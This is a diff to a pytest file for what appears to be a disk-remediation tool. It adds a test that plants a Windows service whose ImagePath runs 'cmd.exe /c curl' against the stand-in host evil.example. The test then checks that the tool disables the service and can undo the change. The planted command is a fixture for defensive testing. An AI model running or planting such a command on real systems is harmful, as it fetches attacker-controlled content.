@@ -9,6 +9,7 @@ import pytest
 
 from quetsach.endpoint.act import grounds, journal, runs, undoing
 from quetsach.endpoint.verdict import Verdict
+from tests.endpoint import world
 from tests.endpoint.act import disks
 
 CLEANED = (
@@ -46,6 +47,21 @@ def test_what_only_a_person_can_settle_is_left_to_one(sign: str, tmp_path: Path)
     one = disks.planned(disks.windows(tmp_path / "disk", sign))
     assert not one.steps
     assert sign in {advice.why for advice in one.advice}
+
+
+def test_a_service_that_calls_a_listed_address_is_switched_off_and_comes_back(tmp_path: Path) -> None:
+    image = r"C:\Windows\System32\cmd.exe /c curl http://evil.example/a"
+    told = world.planted({"registry": {rf"{world.SERVICES}\cap": {"ImagePath": image, "Start": 2}}})
+    root = world.tree(told, tmp_path / "disk")
+    before = disks.snapshot(root)
+    one = disks.planned(root)
+    assert [(step.act, step.target["name"], step.why) for step in one.steps] == [
+        ("value", "Start", ("evil.example",))
+    ]
+    assert not disks.applied(root, one).failed
+    assert disks.look(root).verdict is Verdict.TRACES
+    undoing.undo(grounds.at(root))
+    assert disks.snapshot(root) == before
 
 
 def test_a_question_is_taken_into_the_plan_only_when_it_is_asked_for(tmp_path: Path) -> None:
